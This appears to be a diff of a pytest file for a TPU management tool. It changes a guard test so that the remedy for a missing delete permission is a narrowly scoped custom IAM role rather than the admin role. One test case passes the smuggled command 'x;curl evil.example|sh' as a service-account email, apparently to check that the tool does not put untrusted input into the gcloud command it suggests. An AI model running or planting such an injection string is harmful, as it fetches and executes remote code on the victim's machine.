@@ -16,6 +16,7 @@ from tpuctl.ssh.tpu_guard import GuardReport, GuardStatus, parse_guard_report
 STATUS = GuardStatus("projects/p/locations/z/nodes/demo", "17", NOW, NOW, "not expired", None, 0, False, None)
 RUNNING = GuardReport(None, is_installed=True, is_running=True, status=STATUS, log=("started", "not expired"))
 NO_GUARD = GuardReport(None, is_installed=False, is_running=False, status=None, log=())
+ACCOUNT = "tpu@p.iam.gserviceaccount.com"
 EXPIRES = {"labels": {"tpuctl-expires": "1800000000"}}
 
 
@@ -57,7 +58,7 @@ _GUARDS: dict[str, tuple[Fact[GuardReport], dict[str, dict[str, str]], list[str]
         failing("permission", "HTTP 403"),
         EXPIRES,
         [
-            "warning worker 0: the guard cannot delete the node: the worker's service account lacks roles/tpu.admin (HTTP 403)"
+            "warning worker 0: the guard cannot delete the node: the worker's service account is not allowed to (HTTP 403)"
         ],
     ),
     "scope": (
@@ -84,16 +85,35 @@ def test_guard_of_a_node(guard: Fact[GuardReport], fields: dict[str, dict[str, s
     assert problems(check_guard, seen({"guard": guard}, **fields)) == expected
 
 
-def test_guard_without_permission_names_the_role_and_its_log() -> None:
-    facts = seen(
-        {"guard": failing("permission", "HTTP 403")},
-        **EXPIRES,
-        serviceAccount={"email": "tpu@p.iam.gserviceaccount.com"},
-    )
-    (found,) = check_guard.judge(facts)
+@pytest.mark.parametrize(
+    ("email", "idle", "account", "role", "permissions"),
+    [
+        pytest.param(ACCOUNT, None, ACCOUNT, "tpuctlGuard", "tpu.nodes.get,tpu.nodes.delete", id="deletes"),
+        pytest.param(
+            ACCOUNT,
+            (timedelta(hours=1), "stop"),
+            ACCOUNT,
+            "tpuctlGuardStop",
+            "tpu.nodes.get,tpu.nodes.delete,tpu.nodes.stop",
+            id="stops-when-idle",
+        ),
+        pytest.param(
+            "x;curl evil.example|sh", None, "SERVICE_ACCOUNT", "tpuctlGuard", "tpu.nodes.get,tpu.nodes.delete", id="odd"
+        ),
+        pytest.param("", None, "SERVICE_ACCOUNT", "tpuctlGuard", "tpu.nodes.get,tpu.nodes.delete", id="unknown"),
+    ],
+)
+def test_guard_without_permission_names_a_role_that_has_only_that_and_its_log(
+    email: str, idle: tuple[timedelta, str] | None, account: str, role: str, permissions: str
+) -> None:
+    status = replace(STATUS, problem="permission", text="HTTP 403", failures=1)
+    guard = Known(replace(RUNNING, status=status, idle=idle))
+    (found,) = check_guard.judge(seen({"guard": guard}, **EXPIRES, serviceAccount={"email": email}))
 
+    member = f"--member=serviceAccount:{account} --role=projects/p/roles/{role} --condition=None"
+    create = f"gcloud iam roles create {role} --project=p --stage=GA --permissions={permissions}"
     assert [remedy.command for remedy in found.remedies] == [
-        "gcloud projects add-iam-policy-binding p --member=serviceAccount:tpu@p.iam.gserviceaccount.com --role=roles/tpu.admin"
+        f"{create} && gcloud projects add-iam-policy-binding p {member}"
     ]
     assert "its log ends with `not expired`" in str(found.why)
 
